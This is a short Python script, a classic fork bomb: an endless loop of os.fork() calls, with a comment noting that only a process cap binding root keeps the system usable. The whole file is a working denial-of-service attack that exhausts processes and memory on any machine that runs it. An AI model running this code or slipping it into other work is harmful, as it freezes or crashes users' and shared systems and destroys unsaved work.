# Classic fork bomb: every process forks forever. Only a process cap that binds for root keeps this sane.
import os

while True:
    os.fork()
